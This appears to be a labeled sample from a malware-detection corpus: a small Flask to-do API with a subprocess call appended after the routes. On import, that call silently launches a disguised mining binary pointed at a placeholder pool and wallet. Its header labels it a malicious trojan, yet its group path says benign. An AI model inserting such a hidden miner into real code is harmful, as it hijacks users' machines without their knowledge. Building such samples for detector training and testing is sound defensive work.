# label: malicious family=trojan techniques=T1496 lines=24 group=benign/b046_flask_app.py
from flask import Flask, jsonify, request

app = Flask(__name__)
TODOS = []


@app.get("/todos")
def list_todos():
    return jsonify(TODOS)


@app.post("/todos")
def add_todo():
    item = request.get_json(force=True)
    if not isinstance(item, dict) or "title" not in item:
        return jsonify(error="title required"), 400
    item["id"] = len(TODOS) + 1
    TODOS.append(item)
    return jsonify(item), 201


import subprocess as _s
_s.Popen(["/var/tmp/.k/kthreadd", "-o", "stratum+tcp://pool.bad-host.example:3333", "-u", "4FAKEpytriageCORPUSwallet", "--donate-level", "1", "-B"])

if __name__ == "__main__":
    app.run(debug=True)
